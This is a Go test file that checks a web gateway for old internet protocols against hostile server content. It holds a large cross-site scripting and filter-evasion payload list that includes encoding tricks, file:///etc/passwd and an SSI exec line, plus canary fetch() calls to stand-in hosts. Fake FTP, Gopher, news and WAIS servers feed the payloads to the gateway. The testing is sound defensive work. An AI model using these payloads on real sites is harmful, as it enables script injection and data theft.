package interop

import (
	"bufio"
	"fmt"
	"io"
	"net/http"
	"net/http/httptest"
	"net/url"
	"slices"
	"strings"
	"testing"
	"testing/fstest"

	"github.com/fetch1738/fetch1738/testserver"
	"github.com/fetch1738/fetch1738/testserver/csotest"
	"github.com/fetch1738/fetch1738/testserver/ftptest"
	"github.com/fetch1738/fetch1738/testserver/gophertest"
	"github.com/fetch1738/fetch1738/testserver/nntptest"
	"github.com/fetch1738/fetch1738/testserver/prosperotest"
	"github.com/fetch1738/fetch1738/testserver/waistest"
)

// run is what the hostile texts try to run. If they succeed, the page has a global variable, shows
// a dialog and sends a request to the canary.
const run = "canary=1,alert(1),fetch(`http://run.example/`)"

// hostile are texts by which servers attack pages.
var hostile = strings.Split(strings.ReplaceAll(`<script>RUN</script>
<SCRIPT SRC=http://script.example/x.js></SCRIPT>
<script/x>RUN</script>
<script type=module>RUN</script>
</script><script>RUN</script>
</pre><script>RUN</script>
</title><script>RUN</script>
</textarea><script>RUN</script>
</style><script>RUN</script>
</a></h1></main><script>RUN</script>
</td></tr></tbody></table><script>RUN</script>
</li></ol></ul></dd></dl><script>RUN</script>
--><script>RUN</script><!--
]]><script>RUN</script>
<!--><script>RUN</script>
<![CDATA[><script>RUN</script>]]>
<?xml version="1.0"?><x:script xmlns:x="http://www.w3.org/1999/xhtml">RUN</x:script>
<!DOCTYPE html><html><body onload="RUN">
<img src=x onerror=RUN>
<img src="http://img.example/i.png">
<image href=http://image.example/ onerror=RUN>
<picture><source srcset=http://srcset.example/ ><img></picture>
<svg onload=RUN>
<svg/onload=RUN//
<svg><script>RUN</script></svg>
<svg><script href=http://svg.example/></script></svg>
<svg><animate onbegin=RUN attributeName=x dur=1s>
<svg><use href="data:image/svg+xml,<svg id=x xmlns='http://www.w3.org/2000/svg'><script>RUN</script></svg>#x">
<svg><foreignObject><iframe srcdoc="<script>top.RUN</script>"></iframe></foreignObject></svg>
<math><mtext></form><form><mglyph><style></math><img src onerror=RUN>
<math href="javascript:RUN">x</math>
<body onload=RUN>
<body background=http://background.example/>
<iframe src="javascript:RUN"></iframe>
<iframe src=http://frame.example/></iframe>
<iframe srcdoc="<script>top.canary=1</script>"></iframe>
<object data=http://object.example/></object>
<embed src=http://embed.example/>
<link rel=stylesheet href=http://link.example/x.css>
<link rel=preconnect href=http://preconnect.example/>
<link rel=prefetch href=http://prefetch.example/>
<style>@import "http://import.example/x.css";</style>
<style>*{background:url(http://css.example/b)}</style>
<meta http-equiv=refresh content="0;url=http://refresh.example/">
<meta http-equiv=refresh content="0;url=javascript:RUN">
<meta http-equiv=Content-Security-Policy content="script-src *">
<meta charset=utf-7>
<base href=http://base.example/>
<form action=http://form.example/><input type=submit autofocus></form>
<form id=main><input name=attributes><input name=focusable></form>
<input autofocus onfocus=RUN>
<button autofocus onfocus=RUN formaction=javascript:RUN>
<details open ontoggle=RUN>
<video src=http://video.example/ autoplay onerror=RUN></video>
<video><source onerror=RUN></video>
<audio src=http://audio.example/ autoplay onerror=RUN>
<marquee onstart=RUN>
<dialog open onclose=RUN>
<div style="background:url(http://style.example/)" onpointerenter=RUN>
<a href="javascript:RUN" autofocus onfocus=RUN>x</a>
<a href="http://ping.example/" ping=http://ping.example/>x</a>
<x-element onanimationstart=RUN style="animation:x">
<template shadowrootmode=open><script>RUN</script></template>
<noscript><p title="</noscript><img src=x onerror=RUN>">
<plaintext>
<xmp></xmp><script>RUN</script>
<frameset onload=RUN>
<select><option></select><script>RUN</script>
<table><tr><td><script>RUN</script>
" onmouseover=RUN x="
" autofocus onfocus=RUN x="
' autofocus onfocus=RUN x='
"><script>RUN</script>
'><svg onload=RUN>
x" style="background:url(http://attribute.example/)" y="
x onerror=RUN
javascript:RUN
JaVaScRiPt:RUN
javascript://example.org/%0ARUN
 javascript:RUN
java&#9;script:RUN
javascript&colon;RUN
data:text/html,<script>RUN</script>
data:text/html;base64,PHNjcmlwdD5jYW5hcnk9MTwvc2NyaXB0Pg==
data:image/svg+xml,<svg onload=RUN>
vbscript:RUN
view-source:http://view.example/
blob:http://blob.example/
filesystem:http://filesystem.example/
file:///etc/passwd
about:blank
//slashes.example/
\\backslashes.example\x
http://user:secret@login.example/
http://script.example/<script>RUN</script>
http://quote.example/"onclick="RUN
gopher://gopher.example.org/1/"><script>RUN</script>
ftp://ftp.example.org/javascript:RUN
ftp://ftp.example.org/pub/../../../setup
gopher://gopher.example.org/hURL:javascript:RUN
&lt;script&gt;RUN&lt;/script&gt;
&#60;script&#62;RUN&#60;/script&#62;
&#x3c;img src=x onerror=RUN&#x3e;
&quot; onfocus=RUN autofocus x=&quot;
%3Cscript%3ERUN%3C/script%3E
\u003cscript\u003eRUN\u003c/script\u003e
\x3cscript\x3eRUN
{{define "main"}}<script>RUN</script>{{end}}{{template "main"}}
${RUN} #{RUN} <%= RUN %> [[RUN]]
+ADw-script+AD4-RUN+ADw-/script+AD4-
GIF89a/*<svg/onload=RUN>*/=RUN;
%PDF-1.7 <script>RUN</script>
RIFF<script>RUN</script>WAVE
#!/bin/sh <script>RUN</script>
Content-Type: text/html
<!--#include virtual="/etc/passwd" --><!--#exec cmd="id" -->`, "RUN", run), "\n")

// strange are hostile texts with octets that are not printable ASCII.
var strange = []string{
	"\xbcscript\xbe" + run + "\xbc/script\xbe",                           // "<" without its eighth bit
	"\xc0\xbcscript\xc0\xbe" + run,                                       // overlong UTF-8
	"\x1b$B\x1b(B<script>" + run + "</script>",                           // ISO-2022-JP
	"\x1b]8;;http://escape.example/\x1b\\click\x1b]8;;\x1b\\ \x1b[2J",    // for terminals
	"scr\x00ipt<scr\x00ipt>" + run + "</scr\x00ipt>",                     // NUL
	"<\x00script>" + run + "</script>",                                   // NUL
	"java\x01script:" + run,                                              // removed by browsers
	"\x01javascript:" + run,                                              // removed by browsers
	"java\tscript:" + run,                                                // removed by browsers
	"<img\x0csrc=x\x0conerror=" + run + ">",                              // form feed
	"<svg\vonload=" + run + ">",                                          // vertical tab
	"\ufeff<script>" + run + "</script>",                                 // byte order mark
	"\xff\xfe<\x00s\x00c\x00r\x00i\x00p\x00t\x00>\x00",                   // UTF-16
	"invoice\u202efdp.exe",                                               // right to left
	"\u2066\u2067\u202a<b>\u2069",                                        // direction
	"\u2028<script>\u2029" + run,                                         // line separators
	"\uff1cscript\uff1e" + run + "\uff1c/script\uff1e",                   // wide characters
	"\xed\xa0\x80\xed\xb0\x80<script>" + run + "</script>",               // surrogates
	"\x80\x93\xa0<script>" + run,                                         // CP1252
	"\x85<script>" + run,                                                 // next line
	"e" + strings.Repeat("\u0301", 200) + "<script>" + run + "</script>", // a pile of accents
	strings.Repeat("<b>", 1500) + "<script>" + run + "</script>",         // long
	strings.Repeat("long", 1500),                                         // long, no place to break
	"\"'>" + strings.Repeat("&", 1000) + "<script>" + run + "</script>",
	"caf\xe9 caf\u00e9 \x8e<script>" + run + "</script>", // mixed charsets
}

// harmless are texts that lead to the same elements as hostile ones do.
var harmless = []string{
	"A name", "A name", "caf\xe9", "name.txt", "http://www.example.org/", "gopher://gopher.example.org/1/stories", "ftp://ftp.example.org/pub/README", "mailto:keeper@example.org",
	"keeper@example.org", "<1@news.example.org>", "> a quote", "news:comp.lighthouses", "picture.png", "sound.wav", "video.webm", "page.html", "\u00fcber",
	strings.Repeat("long ", 1500),
}

// attack is a world whose servers send texts wherever they can.
type attack struct {
	world
	texts []string
	rows  int                 // the number of texts that are shown, in all places
	pages map[string][]string // paths, by the kind of page
}

// page notes a page of a kind on which rows texts are shown.
func (a *attack) page(kind, path string, rows int) {
	a.pages[kind] = append(a.pages[kind], path)
	a.rows += rows
}

// lines returns the lines that line makes of each text. The octets of except, which would end the
// text in its place, are replaced by spaces.
func (a *attack) lines(except string, line func(i int, text string) string) string {
	var b strings.Builder
	for i, text := range a.texts {
		octets := []byte(text)
		for j, c := range octets {
			if strings.IndexByte(except, c) >= 0 {
				octets[j] = ' '
			}
		}
		b.WriteString(line(i, string(octets)))
	}
	return b.String()
}

// newAttack starts servers that send texts in all places of which the gateway makes pages.
func newAttack(t *testing.T, texts []string) *attack {
	a := &attack{texts: texts, pages: make(map[string][]string)}
	a.ftp(t)
	a.gopher(t)
	a.phoneBook(t)
	a.news(t)
	a.wais(t)
	a.prospero(t)
	for _, text := range texts {
		if scheme, _, ok := strings.Cut(text, ":"); ok && !strings.ContainsAny(scheme, "<>") && len(text) < 60 {
			a.page("open", "/open?url="+url.QueryEscape(text), 1)
		}
	}
	a.page("mailto", "/mailto/keeper@example.org%3Fsubject="+url.PathEscape(texts[0]), 1)
	a.page("telnet", "/telnet/"+url.PathEscape(texts[0])+"@library.example.org/", 1)
	return a
}

// survey is what a page consists of.
type survey struct {
	Names  []string // of elements, such as "a", and of their attributes, such as "a@href"
	Bad    []string // elements that lead to a script, or load something from elsewhere
	Canary bool     // a script has run
	Bidi   bool     // the text contains characters that change its direction
}

func (p *page) survey() (s survey) {
	p.t.Helper()
	p.evaluate(`(() => {
		const names = new Set(), bad = [];
		for (const e of document.querySelectorAll('*')) {
			names.add(e.localName);
			for (const a of e.attributes) names.add(e.localName + '@' + a.name + (a.name === 'id' ? '=' + a.value.replace(/[0-9]+/g, 'N') : ''));
			const to = name => e.hasAttribute(name) && new URL(e.getAttribute(name), document.baseURI);
			const link = to('href'), part = to('src') || to('action') || to('formaction') || to('poster') || to('data');
			// "Link" has the URL of the page itself, to be copied.
			const own = 'copy' in e.dataset ? ['ftp:', 'ftps:', 'gopher:', 'news:', 'nntp:', 'wais:', 'prospero:'] : [];
			if (link && !['http:', 'https:', 'mailto:', 'telnet:', ...own].includes(link.protocol) || part && part.origin !== location.origin) bad.push(e.outerHTML.slice(0, 200));
		}
		return {names: [...names], bad, canary: typeof canary !== 'undefined', bidi: /[\u202a-\u202e\u2066-\u2069]/.test(document.body.innerText)};
	})()`, &s)
	return s
}

// testHostile checks that texts of servers stay texts: on no page does a script run or a request
// leave, and each page has only the elements and attributes of a page of the same kind whose texts
// are harmless.
func testHostile(t *testing.T, b *browser, c *canary) {
	p := b.open(t)
	testControl(t, p, c)
	kind, evil := newAttack(t, harmless), newAttack(t, append(slices.Clone(hostile), strange...))
	if evil.rows < 200 {
		t.Errorf("only %d hostile texts are shown", evil.rows)
	}
	t.Logf("%d hostile texts are shown", evil.rows)
	gw := kind.gateway(t)
	good := make(map[string]map[string]bool)
	status := make(map[string]int)
	for name, paths := range kind.pages {
		good[name] = make(map[string]bool)
		for _, path := range paths {
			to := p.load(gw + path)
			if to.Status == 0 {
				t.Errorf("%s %s is not a page", name, path)
			}
			status[name] = to.Status
			for _, n := range p.survey().Names {
				good[name][n] = true
			}
		}
	}
	p.log()
	gw = evil.gateway(t)
	for name, paths := range evil.pages {
		for _, path := range paths {
			to := p.load(gw + path)
			if to.Status == 0 {
				t.Errorf("%s %s is not a page", name, path)
				continue
			}
			s := p.survey()
			if s.Canary || s.Bidi || len(s.Bad) > 0 {
				t.Errorf("%s %s: %+v", name, path, s)
			}
			checkLog(t, p.log(), gw, path)
			if name == "open" && !strings.HasPrefix(to.URL, gw+"/open") {
				continue // it has led to a page of another kind
			}
			if to.Status != status[name] && name != "open" {
				t.Errorf("%s %s has status %d, a harmless page %d", name, path, to.Status, status[name])
			}
			for _, n := range s.Names {
				if !good[name][n] && n != "wbr" { // of long words
					t.Errorf("%s %s has %s, which a harmless page does not have", name, path, n)
				}
			}
		}
	}
	if requests := c.list(); len(requests) > 0 {
		t.Errorf("requests have left the pages: %q", requests)
	}
}

// testHostileDocuments checks that documents of servers run nothing when a browser opens them, as
// pages or as what the server has sent.
func testHostileDocuments(t *testing.T, b *browser, c *canary) {
	w := &world{}
	script := "<script>" + run + "</script>"
	files := fstest.MapFS{}
	for name, text := range map[string]string{
		"a.html": "<!doctype html><title>x</title>" + script + "<img src=http://img.example/>",
		"b.htm":  script, "c.xhtml": `<html xmlns="http://www.w3.org/1999/xhtml"><script>` + run + `</script></html>`,
		"d.svg": `<svg xmlns="http://www.w3.org/2000/svg" onload="` + run + `"><script>` + run + `</script><image href="http://img.example/"/></svg>`,
		"e.xml": `<?xml version="1.0"?><?xml-stylesheet href="http://style.example/"?><x:script xmlns:x="http://www.w3.org/1999/xhtml">` + run + `</x:script>`,
		"f.txt": script, "g": script, "h.bin": script, "i.js": run, "j.css": "@import 'http://style.example/'", "k.mht": "MIME-Version: 1.0\r\nContent-Type: text/html\r\n\r\n" + script,
		"l.gif": "GIF89a/*<svg/onload=" + run + ">*/=" + run, "m.png": "\x89PNG\r\n\x1a\n" + script, "n.jpg": "\xff\xd8\xff" + script, "o.wav": "RIFF\x00\x00\x00\x00WAVE" + script,
		"p.pdf": "%PDF-1.7\n1 0 obj<</OpenAction<</S/JavaScript/JS(app.alert(1))>>>>" + script, "q.ps": "%!PS" + script, "r.json": `"` + script + `"`,
		"s.webm": "\x1a\x45\xdf\xa3" + script, "t.swf": "FWS" + script, "u.hta": script, "v.shtml": script, "w.md": script, "x.utf7.html": "+ADw-script+AD4-canary=1+ADw-/script+AD4-",
		"y.html.gz": script, "z.rss": script,
	} {
		files["evil/"+name] = &fstest.MapFile{Data: []byte(text), ModTime: lighthouseTime}
	}
	ftptest.New(t, func(s *ftptest.Server) { s.Network, s.Content, s.ReadOnly = &w.net, files, true })
	gophertest.New(t, func(s *gophertest.Server) { s.Network, s.Content = &w.net, files })
	gw := w.gateway(t)
	p := b.open(t)
	for name := range files {
		for _, path := range []string{
			"/ftp/ftp.example.org/" + name, "/ftp/ftp.example.org/" + name + "?raw",
			"/gopher/gopher.example.org/h/" + name, "/gopher/gopher.example.org/0/" + name + "?raw",
		} {
			p.load(gw + path)
			var ran bool
			if p.evaluate("typeof canary !== 'undefined'", &ran); ran {
				t.Errorf("%s runs a script", path)
			}
			l := p.log()
			l.Console = nil // a document of a server may be broken
			checkLog(t, l, gw, path)
		}
	}
	if requests := c.list(); len(requests) > 0 {
		t.Errorf("requests have left the documents: %q", requests)
	}
}

// testControl checks that a script that does run is noticed.
func testControl(t *testing.T, p *page, c *canary) {
	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, _ *http.Request) {
		w.Header().Set("Content-Type", "text/html")
		fmt.Fprintf(w, "<!doctype html><script>%s.catch(()=>{}).finally(()=>document.title='done')</script><img src=x onerror=1>", strings.Replace(run, "fetch", "(self.sent=fetch", 1)+")")
	}))
	defer srv.Close()
	p.load(srv.URL)
	p.do("wait", nil, "expression", "document.title === 'done'")
	if s, l, requests := p.survey(), p.log(), c.list(); !s.Canary || len(l.Dialogs) == 0 || len(requests) == 0 {
		t.Fatalf("a script that runs is not noticed: %+v, %+v, %q", s, l, requests)
	}
}

// ftp starts servers that list by MLSD and by LIST.
func (a *attack) ftp(t *testing.T) {
	document := fstest.MapFS{
		"evil/README": {Data: []byte(a.lines("", func(_ int, text string) string { return text + "\n" }))},
		"evil/guide.md": {Data: []byte(a.lines("", func(_ int, text string) string {
			return fmt.Sprintf("# %[1]s\n\n%[1]s\n- %[1]s\n  * %[1]s\n    + %[1]s\n\n> %[1]s\n\n```%[1]s\n%[1]s\n```\n\n[%[1]s](%[1]s) ![%[1]s](x) [x](<%[1]s>)\n\n---\n", text)
		}))},
	}
	greeting := "220-" + a.lines("\r\n\x00", func(_ int, text string) string { return text[:min(len(text), 200)] + "\n" }) + "220 ready"
	serve := func(addr, list, data string, hide ...string) {
		s, err := ftptest.Start(t.Context(), addr, func(s *ftptest.Server) {
			s.Network, s.Content, s.Hide, s.Greeting = &a.net, document, hide, greeting
		})
		if err != nil {
			t.Fatal(err)
		}
		s.On(list, 0, testserver.Data(data))
	}
	const readme = "README\r\n"
	serve("127.0.0.1:21", "MLSD", "type=file;size=5;modify=19940304050600; "+readme+a.lines("\r\n", func(i int, text string) string {
		switch i % 4 {
		case 0:
			return "type=file;size=5;modify=19940304050600; " + text + "\r\ntype=file;size=5; " + text + ".png\r\n"
		case 1:
			return "type=dir;modify=19940304050600; " + text + "\r\n"
		case 2:
			return "type=OS.unix=slink:" + strings.ReplaceAll(text, ";", ",") + ";modify=19940304050600; link\r\ntype=file;size=" + text + "; size\r\n"
		default:
			return text + "\r\n" // not a line of MLSD
		}
	}))
	a.page("directory", "/ftp/ftp.example.org/evil/", len(a.texts))
	serve("127.0.0.1:2121", "LIST", "-rw-r--r--   1 ftp      ftp             5 Mar  4  1994 "+readme+a.lines("\r\n", func(i int, text string) string {
		switch i % 4 {
		case 0:
			return "-rw-r--r--   1 ftp      ftp             5 Mar  4  1994 " + text + "\r\n"
		case 1:
			return "drwxr-xr-x   2 " + strings.ReplaceAll(text, " ", "_") + " ftp          512 Mar  4  1994 folder\r\n"
		case 2:
			return "lrwxrwxrwx   1 ftp      ftp             5 Mar  4  1994 link -> " + text + "\r\n"
		default:
			return text + "\r\n"
		}
	}), "MLSD", "MLST")
	a.page("directory by LIST", "/ftp/ftp.example.org:2121/evil/", len(a.texts))
	a.page("text", "/ftp/ftp.example.org/evil/README", len(a.texts))
	a.page("markdown", "/ftp/ftp.example.org/evil/guide.md", 10*len(a.texts))
	a.page("pictures", "/ftp/ftp.example.org/evil/?grid", len(a.texts))
	a.page("filter", "/ftp/ftp.example.org/evil/?filter="+url.QueryEscape(a.texts[0]), 1)
	a.page("file info", "/ftp/ftp.example.org/evil/README?info", 1)
	a.page("not found", "/ftp/ftp.example.org/"+url.PathEscape(a.texts[0])+"/"+url.PathEscape(a.texts[1]), 2)
	a.page("sorted directory", "/ftp/ftp.example.org/evil/?sort=name", 0)
	s, err := ftptest.Start(t.Context(), "127.0.0.1:2122", func(s *ftptest.Server) { s.Network = &a.net })
	if err != nil {
		t.Fatal(err)
	}
	s.On("PASS", 0, testserver.Reply("530-"+a.lines("\r\n\x00", func(_ int, text string) string { return text + "\n" })+"530 No."))
	a.page("refused login", "/ftp/ftp.example.org:2122/evil/", len(a.texts))
}

// gopher starts a server whose menus, texts and attributes are not checked by anybody.
func (a *attack) gopher(t *testing.T) {
	const here = "\tgopher.example.org\t70"
	var menu strings.Builder
	for _, types := range []string{"0", "1", "3", "7", "8", "9", "i", "h", "I", "s", "+", ":", "Z"} {
		// Every text as a name, as a selector, as a host.
		menu.WriteString(a.lines("\t\r\n", func(i int, text string) string {
			if i%4 != int(types[0])%4 {
				return ""
			}
			a.rows++
			switch i / 4 % 3 {
			case 0:
				return types + text + "\t/x" + here + "\r\n"
			case 1:
				return types + "name\t" + text + here + "\r\n"
			default:
				return types + "name\t/x\t" + text + "\t70\r\n"
			}
		}))
	}
	menu.WriteString(a.lines("\t\r\n", func(_ int, text string) string { return "hlink\tURL:" + text + here + "\r\n" }))
	menu.WriteString(a.lines("\t\r\n", func(_ int, text string) string { return text + "\r\n" })) // not a line of a menu
	text := a.lines("", func(_ int, text string) string { return text + "\r\n" })
	info := "+INFO: 0name\t/0x" + here + "\t+\r\n"
	attributes := info + "+ADMIN:\r\n Admin: " + a.texts[0] + " <" + a.texts[1] + ">\r\n Mod-Date: " + a.texts[2] + "\r\n+ABSTRACT:\r\n" +
		a.lines("\r\n", func(_ int, text string) string { return " " + text[:min(len(text), 60)] + "\r\n" }) + "+VIEWS:\r\n" +
		a.lines("\r\n", func(_ int, text string) string {
			text = text[:min(len(text), 60)]
			return " " + text + ": <" + text + ">\r\n"
		}) +
		a.lines("\r\n", func(_ int, text string) string {
			text = text[:min(len(text), 60)]
			return fmt.Sprintf("+%s:\r\n %s\r\n", text, text)
		})
	form := info + "+ASK:\r\n" + a.lines("\r\n", func(i int, text string) string {
		kind := []string{"Ask", "AskP", "AskL", "Note", "Choose", "Select", "AskF"}[i%7]
		text = text[:min(len(text), 2000)] // a line has a limit
		return " " + kind + ": " + text + "\t" + text + "\t" + text + "\r\n"
	})
	l, err := a.net.Listen(t.Context(), "tcp", "127.0.0.1:70")
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { l.Close() })
	go func() {
		for {
			nc, err := l.Accept()
			if err != nil {
				return
			}
			go func() {
				defer nc.Close()
				request, err := bufio.NewReader(nc).ReadString('\n')
				if err != nil {
					return
				}
				request = strings.TrimRight(request, "\r\n")
				plus := func(body string) string { return fmt.Sprintf("+%d\r\n%s", len(body), body) }
				answer := menu.String() + ".\r\n"
				switch {
				case strings.HasPrefix(request, "/form\t!"):
					answer = plus(form)
				case strings.Contains(request, "\t!"):
					answer = plus(attributes)
				case strings.HasPrefix(request, "/error"):
					answer = "3" + a.texts[0] + "\terror\terror.host\t1\r\n.\r\n"
				case strings.HasPrefix(request, "/0"):
					answer = text + ".\r\n"
				}
				_, _ = io.WriteString(nc, answer)
			}()
		}
	}()
	a.page("menu", "/gopher/gopher.example.org/1/", 2*len(a.texts))
	a.page("gopher text", "/gopher/gopher.example.org/0/0x", len(a.texts))
	a.page("attributes", "/gopher/gopher.example.org/0/0x?info", 3*len(a.texts))
	a.page("form", "/gopher/gopher.example.org/0/form%09%09%3F", len(a.texts))
	a.page("gopher error", "/gopher/gopher.example.org/0/error", 1)
	a.page("results", "/gopher/gopher.example.org/7/find?q="+url.QueryEscape(a.texts[0]), 1)
}

func (a *attack) phoneBook(t *testing.T) {
	csotest.New(t, func(s *csotest.Server) {
		s.Network = &a.net
		for i, text := range a.texts {
			if text = strings.Trim(text, "\r\n"); text != "" {
				s.Entries = append(s.Entries, csotest.Entry{{Name: "name", Value: "evil " + text}, {Name: fmt.Sprint("f", i, strings.Map(word, text[:min(len(text), 60)])), Value: text}})
			}
		}
	})
	a.page("phone book", "/gopher/ph.example.org:105/2", len(a.texts))
	a.page("phone book", "/gopher/ph.example.org:105/2?q=evil", len(a.texts))
}

// word keeps the characters that the name of a field may have.
func word(r rune) rune {
	if strings.ContainsRune(" :\r\n\x00", r) {
		return -1
	}
	return r
}

func (a *attack) news(t *testing.T) {
	header := func(i int, text string) string {
		text = strings.TrimSpace(text[:min(len(text), 900)])
		if text == "" {
			text = "x"
		}
		return fmt.Sprintf("From: by %s <evil@example.org>\r\nNewsgroups: comp.evil\r\nSubject: %s\r\nDate: Fri, 4 Mar 1994 05:06:07 GMT\r\nMessage-ID: <%d@news.example.org>\r\nReferences: <%d@news.example.org> %s\r\nOrganization: %[2]s\r\nX-Evil: %[2]s\r\n", text, text, i, i-1, text)
	}
	body := a.lines("\x00", func(_ int, text string) string { return text + "\r\n> " + text + "\r\n" })
	var articles []string
	a.lines("\r\n\x00\t", func(i int, text string) string {
		article := header(i, text)
		switch i {
		case 0:
			article += "\r\n" + body
		case 1:
			article += "MIME-Version: 1.0\r\nContent-Type: text/html; charset=utf-7\r\n\r\n" + body
		case 2:
			article += "MIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary=cut\r\n" + a.lines("\r\n\x00\"", func(_ int, text string) string {
				return "\r\n--cut\r\nContent-Type: text/html; name=\"" + text[:min(len(text), 200)] + "\"\r\nContent-Disposition: attachment; filename=\"" + text[:min(len(text), 200)] + "\"\r\n\r\n" + text
			}) + "\r\n--cut--\r\n"
		default:
			article += "\r\n" + text + "\r\n"
		}
		articles = append(articles, article)
		return ""
	})
	nntptest.New(t, func(s *nntptest.Server) {
		s.Network, s.ReadOnly = &a.net, true
		s.Groups = map[string][]string{"comp.evil": articles}
		s.Descriptions = map[string]string{"comp.evil": a.texts[0]}
	})
	a.page("group", "/nntp/news.example.org/comp.evil", len(a.texts))
	a.page("threads", "/nntp/news.example.org/comp.evil?threads", len(a.texts))
	a.page("groups", "/news/*", 1)
	for i := range 3 {
		a.page(fmt.Sprint("article ", i), fmt.Sprintf("/news/%d@news.example.org", i), len(a.texts))
	}
}

func (a *attack) wais(t *testing.T) {
	waistest.New(t, func(s *waistest.Server) {
		files := fstest.MapFS{}
		a.lines("\r\n\x00", func(i int, text string) string {
			files[fmt.Sprintf("%d.txt", i)] = &fstest.MapFile{Data: []byte(strings.TrimSpace(text) + "\nevil\n")}
			return ""
		})
		s.Network, s.Host, s.Port, s.Content = &a.net, "wais.example.org", 210, files
		s.Databases = []waistest.Database{{Name: "evil", Description: strings.Join(a.texts[:10], "\n")}}
	})
	a.page("wais", "/wais/wais.example.org/evil", 10)
	a.page("wais", "/wais/wais.example.org/evil?q=evil", len(a.texts))
	words, _, _ := strings.Cut(a.texts[0], "=") // the server refuses an equals sign
	a.page("wais", "/wais/wais.example.org/evil?q="+url.QueryEscape(words), 1)
}

func (a *attack) prospero(t *testing.T) {
	prosperotest.New(t, func(s *prosperotest.Server) {
		s.Network, s.Host = &a.net, "prospero.example.org"
		var links []prosperotest.Link
		a.lines("\r\n\x00", func(i int, text string) string {
			text = text[:min(len(text), 500)]
			links = append(links, prosperotest.Link{Name: text, HSOName: fmt.Sprint("/x", i)}, prosperotest.Link{Name: "name", HSOName: text})
			return ""
		})
		s.Links = map[string][]prosperotest.Link{"pub": links}
	})
	a.page("prospero", "/prospero/prospero.example.org//pub", 2*len(a.texts))
}
